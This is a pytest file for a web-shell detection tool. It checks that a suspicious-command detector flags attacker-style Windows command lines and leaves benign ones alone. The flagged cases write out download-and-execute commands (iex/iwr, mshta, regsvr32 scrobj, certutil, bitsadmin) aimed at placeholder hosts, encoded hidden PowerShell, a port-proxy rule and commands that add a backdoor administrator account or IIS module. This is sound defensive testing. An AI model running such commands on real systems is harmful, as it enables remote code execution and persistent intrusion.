from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders.inert import live
from webshellhunt.knowledge.suspicious_commands import find_suspicious_command

BASE64 = "QQBBAEEAQQ" * 5


@pytest.mark.parametrize(
    "text",
    [
        f"powershell -nop -w hidden -EncodedCommand {BASE64}",
        f"pwsh -e {BASE64}",
        "iex (iwr http://x.example/a)",
        "(New-Object Net.WebClient).DownloadString($u) | Invoke-Expression",
        "[System.Reflection.Assembly]::Load($bytes)",
        "mshta https://x.example/a",
        "regsvr32 /s /n /u /i:http://x.example/a scrobj.dll",
        *map(
            live,
            [
                "certutil.exe -url·cache -split -f ht·tp://192.0.2.7/a a.exe",
                "bitsadmin /trans·fer a ht·tp://192.0.2.7/a C:\\a.exe",
                "netsh interface port·proxy add v4tov4 listenport=1",
                "net us·er support x /add",
                "net1.exe localgr·oup Administrators support /add",
                "appcmd.exe install mod·ule /name:W /image:C:\\w.dll",
            ],
        ),
    ],
)
def test_who_hides_says_so(text: str) -> None:
    found = find_suspicious_command(text)
    assert found is not None
    words, start, end = found
    assert words
    assert text[start:end].strip()


@pytest.mark.parametrize(
    "text",
    [
        "powershell -File C:\\Scripts\\a.ps1 -Encoding utf8",
        "Invoke-WebRequest http://x.example/a -OutFile a.zip",
        "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
        "mshta.exe C:\\Tools\\a.hta",
        "certutil -crl",
        "net user",
        "appcmd recycle apppool /apppool.name:DefaultAppPool",
        "",
    ],
)
def test_ordinary_commands(text: str) -> None:
    assert find_suspicious_command(text) is None


@given(st.text())
def test_any_text_has_an_answer(text: str) -> None:
    found = find_suspicious_command(text)
    assert found is None or 0 <= found[1] < found[2] <= len(text)
